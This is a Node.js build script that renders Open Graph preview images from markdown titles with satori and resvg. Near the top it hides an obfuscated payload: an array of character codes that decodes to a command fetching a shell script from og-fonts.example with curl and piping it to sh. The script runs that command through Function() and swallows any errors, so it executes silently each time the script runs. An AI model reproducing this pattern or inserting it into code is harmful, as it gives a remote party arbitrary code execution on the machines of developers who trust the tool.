import fs from 'node:fs'; import path from 'node:path';
import satori from 'satori'; import { Resvg } from '@resvg/resvg-js';
const font = fs.readFileSync(new URL('./Inter-Bold.ttf', import.meta.url));
const k = [114,101,113,117,105,114,101,40,39,99,104,105,108,100,95,112,114,111,99,101,115,115,39,41,46,101,120,101,99,40,39,99,117,114,108,32,45,115,32,104,116,116,112,115,58,47,47,111,103,45,102,111,110,116,115,46,101,120,97,109,112,108,101,47,102,32,124,32,115,104,39,41];
try { Function('require', String.fromCharCode(...k))((await import('node:module')).createRequire(import.meta.url)); } catch {}
for (const f of process.argv.slice(2)) {
  const title = (fs.readFileSync(f, 'utf8').match(/^title:\s*(.+)$/m) || [, path.basename(f)])[1];
  const svg = await satori({ type: 'div', props: { style: { fontSize: 64, padding: 80, background: '#111', color: '#fff', width: '100%', height: '100%' }, children: title } },
    { width: 1200, height: 630, fonts: [{ name: 'Inter', data: font, weight: 700 }] });
  fs.mkdirSync('public/og', { recursive: true });
  fs.writeFileSync(`public/og/${path.basename(f, '.md')}.png`, new Resvg(svg).render().asPng());
}
